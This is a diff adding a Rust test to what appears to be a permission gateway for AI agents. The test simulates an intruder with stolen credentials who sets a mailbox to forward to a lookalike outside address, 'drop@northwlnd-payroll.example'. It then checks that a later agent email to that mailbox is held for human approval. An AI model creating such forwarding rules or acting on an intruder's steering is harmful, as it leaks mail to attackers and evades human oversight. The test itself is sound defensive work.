@@ -180,3 +180,52 @@ async fn an_inventory_that_cannot_be_refreshed_denies_once_too_old() {
     // A failed refresh records nothing.
     assert!(lab.events("inventory_refresh").is_empty());
 }
+
+/// An intruder sets a mailbox to forward outside, and an agent it steers mails that mailbox a
+/// moment later, before the periodic refresh has read the change: the write is decided on the
+/// inventory as the mail system has it now, and waits for a human.
+#[tokio::test]
+async fn a_write_is_decided_on_the_inventory_as_it_is_now() {
+    // Refreshes minutes apart: only a read made for the write can see the new rule.
+    let lab = Lab::with_config(|c| {
+        let edited = c.replace(
+            "file = \"state/lab/inventory.json\"\nrefresh_secs = 2\n",
+            "file = \"state/lab/inventory.json\"\nrefresh_secs = 500\n",
+        );
+        assert_ne!(edited, c, "the example's [inventory] section changed");
+        edited
+    });
+    let warden = lab.serve();
+    let triage = warden.client(TRIAGE).await;
+    let note = json!({"to": "henry.adams@northwind.example", "subject": "INC-1042",
+                      "body": "Henry, INC-1042 is still open; we will update you today."});
+    // A plain note to a colleague runs under the example's autonomy grant.
+    let r = triage.call("mail.send_mail", note.clone()).await.unwrap();
+    assert_ne!(r.is_error, Some(true), "{}", text(&r));
+    assert_eq!(
+        lab.events("decision").pop().unwrap()["rule"],
+        "autonomy:plain-internal-notes"
+    );
+
+    // The intruder, with stolen credentials, makes the mailbox forward outside; the mail
+    // system rewrites its inventory file.
+    let rule = warden_lab::call_tool(
+        warden_lab::LabServer::Mail,
+        &lab.state_dir(),
+        "create_forwarding_rule",
+        json!({"mailbox": "henry.adams", "forward_to": "drop@northwlnd-payroll.example"})
+            .as_object()
+            .unwrap(),
+        "intruder",
+    )
+    .unwrap();
+    assert!(rule.is_ok(), "{rule:?}");
+    let r = triage.call("mail.send_mail", note).await.unwrap();
+    assert!(text(&r).contains("held for approval"), "{}", text(&r));
+    assert_eq!(
+        lab.events("decision").pop().unwrap()["rule"],
+        "mail-to-forwarding-mailboxes-needs-approval"
+    );
+    let sent = lab.state("mail")["outbox"].as_array().unwrap().len();
+    assert_eq!(sent, 1, "only the note sent before the rule left");
+}
